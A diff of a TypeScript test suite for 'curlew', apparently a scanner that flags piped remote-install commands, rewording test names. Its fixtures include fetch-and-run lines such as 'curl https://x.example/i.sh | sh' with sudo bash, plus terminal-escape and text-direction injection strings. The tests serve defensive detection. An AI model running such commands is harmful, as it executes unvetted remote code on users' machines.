@@ -7,7 +7,7 @@ import { runHere, standIn } from "./stand-in.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 
-describe("what is scanned", () => {
+describe("the selection of files", () => {
   const scanned = async (cwd: string, ...args: string[]) => {
     const { stdout } = await runHere(["scan", "--format", "jsonl", ...args], { cwd });
     return stdout
@@ -16,7 +16,7 @@ describe("what is scanned", () => {
       .map((line) => JSON.parse(line).path as string);
   };
 
-  it("reads known kinds of text in folders, sorted, hidden ones included", async () => {
+  it("includes known kinds of text in folders, sorted, also hidden ones", async () => {
     const cwd = folderWith({
       "b.md": "b",
       "a.txt": "a",
@@ -76,7 +76,7 @@ describe("what is scanned", () => {
     ]);
   });
 
-  it("scans what is named itself, also where it is ignored, below node_modules or of no known kind", async () => {
+  it("includes every file that is named, also if it is ignored, in node_modules or of an unknown kind", async () => {
     const cwd = folderWith({
       ".git/HEAD": "",
       ".gitignore": "node_modules\nx.bin\n",
@@ -91,7 +91,7 @@ describe("what is scanned", () => {
     ]);
   });
 
-  it("passes over folders of dependencies that Git does not track, and says so", async () => {
+  it("skips folders of dependencies that Git does not track, and reports it", async () => {
     const cwd = folderWith({
       "a.md": "x",
       "node_modules/p/README.md": BAD,
@@ -128,7 +128,7 @@ describe("what is scanned", () => {
     expect(await scanned(cwd, "--include-dependencies", ".")).toEqual(all);
   });
 
-  it("passes over binary files in folders and counts them", async () => {
+  it("skips and counts binary files in folders", async () => {
     const cwd = folderWith({ "a.md": "x", "b.md": "x\0\x01", "c.exe": "x" });
     const { stdout, status } = await runHere(["scan", "."], { cwd });
     expect(stdout).toBe(
@@ -137,7 +137,7 @@ describe("what is scanned", () => {
     expect(status).toBe(0);
   });
 
-  it("follows no symbolic links in folders", async () => {
+  it("does not follow symbolic links in folders", async () => {
     const cwd = folderWith({ "a/x.md": "x" });
     symlinkSync("..", join(cwd, "a", "loop"));
     symlinkSync("x.md", join(cwd, "a", "link.md"));
@@ -145,7 +145,7 @@ describe("what is scanned", () => {
     expect(await scanned(cwd, "a/link.md")).toEqual(["a/link.md"]);
   });
 
-  it("reads standard input for -, and without a path where it is data", async () => {
+  it("includes standard input for -, and without a path if it is data", async () => {
     expect((await runHere(["scan", "-"], { stdin: BAD })).stdout).toContain("<stdin>:1:1:");
     expect((await runHere(["scan"], { stdin: BAD })).status).toBe(1);
     expect((await runHere(["scan"], { cwd: folderWith({ "a.md": BAD }) })).stdout).toContain(
@@ -153,7 +153,7 @@ describe("what is scanned", () => {
     );
   });
 
-  it("tells the detector what a source file is", async () => {
+  it("passes the language of a source file to the detector", async () => {
     const formats: (string | undefined)[] = [];
     const detector = {
       ...standIn,
@@ -173,8 +173,8 @@ describe("what is scanned", () => {
   });
 });
 
-describe("answers for people", () => {
-  it("shows place, rule, excerpt, reason and a safer way", async () => {
+describe("the output for people", () => {
+  it("shows place, rule, excerpt, reason and a safer command", async () => {
     const text = "Install:\n\n    curl -fsSL https://x.example/get/i.sh | sudo bash -s\n";
     const { stdout, status } = await runHere(["scan", "a.md"], {
       cwd: folderWith({ "a.md": text }),
@@ -199,7 +199,7 @@ describe("answers for people", () => {
     expect(status).toBe(1);
   });
 
-  it("shows a safer way once, and counts findings by rule", async () => {
+  it("shows each safer command once, and counts findings by rule", async () => {
     const other = "curl https://y.example/j.sh | sh";
     const cwd = folderWith({ "a.md": `${BAD}\n\n${BAD}\n`, "b.md": `${other}\n\n${BAD}\n` });
     const { stdout } = await runHere(["scan", "."], { cwd });
@@ -215,7 +215,7 @@ describe("answers for people", () => {
     expect(JSON.parse(json).summary.rules).toEqual({ "bash/fetch-pipe": 4 });
   });
 
-  it("underlines under wide characters, tabs and over several lines", async () => {
+  it("underlines correctly with wide characters, tabs and several lines", async () => {
     const { stdout } = await runHere(["scan", "-"], {
       stdin: "日本\t🙂 curl https://x.example/i \\\r\n  | sh\r\n",
     });
@@ -225,7 +225,7 @@ describe("answers for people", () => {
     expect(stdout).toContain("  2 │   | sh\n    │ ^^^^^^");
   });
 
-  it("shows nothing that steers a terminal or turns the direction of writing", async () => {
+  it("escapes control characters and characters that change the direction of text", async () => {
     const { stdout } = await runHere(["scan", "-"], {
       stdin: `\x1b]0;evil\x07 \u202E ${BAD} \x1b[2J \ud800`,
     });
@@ -252,7 +252,7 @@ describe("answers for people", () => {
     );
   });
 
-  it("keeps to findings with --quiet", async () => {
+  it("shows only findings with --quiet", async () => {
     expect(await runHere(["scan", "-q", "-"], { stdin: "harmless" })).toEqual({
       status: 0,
       stdout: "",
@@ -263,7 +263,7 @@ describe("answers for people", () => {
     );
   });
 
-  it("colours by the usual conventions", async () => {
+  it("uses colour by the usual conventions", async () => {
     const coloured = async (args: string[], env: Record<string, string>, terminal: boolean) =>
       (await runHere(["scan", ...args, "-"], { stdin: BAD, env, terminal })).stdout.includes(
         "\x1b[",
@@ -309,7 +309,7 @@ describe("bad input", () => {
     return result;
   };
 
-  it("names what is missing and goes on", async () => {
+  it("reports a missing file and continues", async () => {
     const { stderr, stdout } = await said(["missing.md", "bad.md"], {
       cwd: folderWith({ "bad.md": BAD }),
     });
@@ -317,7 +317,7 @@ describe("bad input", () => {
     expect(stdout).toContain("1 finding in 1 of 1 text (1 could not be read)");
   });
 
-  it("names an unreadable folder", async () => {
+  it("reports an unreadable folder", async () => {
     const cwd = folderWith({ "a.md": "x", "closed/b.md": "x" });
     chmodSync(join(cwd, "closed"), 0);
     const { stderr, status } = await said(["."], { cwd });
@@ -327,14 +327,14 @@ describe("bad input", () => {
     else expect(status).toBe(0);
   });
 
-  it("says that a folder holds nothing", async () => {
+  it("reports a folder without texts", async () => {
     const cwd = folderWith({ "a/x.exe": "x" });
     expect((await said(["a"], { cwd })).stderr).toBe(
       "curlew: a: contains no file that can be scanned\n",
     );
   });
 
-  it("replaces invalid UTF-8 and says so", async () => {
+  it("replaces invalid UTF-8 and reports it", async () => {
     const stdin = Buffer.concat([Buffer.from([0xff, 0x41, 0xc3, 0x20]), Buffer.from(BAD)]);
     const { stderr, stdout, status } = await said(["-"], { stdin });
     expect(stderr).toMatch(
@@ -356,7 +356,7 @@ describe("bad input", () => {
     expect((await said(["-"], { stdin: wtf8 })).stderr).toContain("not valid UTF-8");
   });
 
-  it("bounds the size", async () => {
+  it("limits the size", async () => {
     const { stderr, status } = await said(["--max-size", "1K", "-"], { stdin: "x".repeat(1025) });
     expect([stderr, status]).toEqual([
       "curlew: <stdin>: longer than 1 KiB (--max-size), not scanned\n",
@@ -374,14 +374,14 @@ describe("bad input", () => {
     [["--max-size", "0"], "at least 1 byte"],
     [["--max-size", "99999999G"], "That is too large"],
     [["--deadline", "-1"], "whole number above 0"],
-  ])("refuses %j", async (args, message) => {
+  ])("rejects %j", async (args, message) => {
     const { stderr, status, stdout } = await said([...args, "-"], { stdin: "" });
     expect(stderr).toContain(message);
     expect(stderr).toMatch(/^curlew: /);
     expect([status, stdout]).toEqual([2, ""]);
   });
 
-  it("goes on behind a text on which the detector breaks", async () => {
+  it("continues after a text on which the detector fails", async () => {
     const detect: typeof standIn.detect = (text, options) => {
       if (text.includes("BREAK")) throw new Error("out of memory");
       return standIn.detect(text, options);
@@ -409,7 +409,7 @@ describe("bad input", () => {
     ).toEqual(["incomplete", "complete"]);
   });
 
-  it("shows a broken query file's message only", async () => {
+  it("shows only the message for an invalid query file", async () => {
     const createDetector = async () => {
       throw new Error("mine/broken.scm:3:1: unknown capture @sorce.fetcher");
     };
@@ -442,7 +442,7 @@ describe("help", () => {
     expect(status).toBe(2);
   });
 
-  it("prints the version, and its usage without a command", async () => {
+  it("prints the version, and its help without a command", async () => {
     expect((await runHere(["--version"])).stdout).toBe("0.0.0\n");
     const { stderr, status } = await runHere([]);
     expect(stderr).toContain("Usage: curlew");
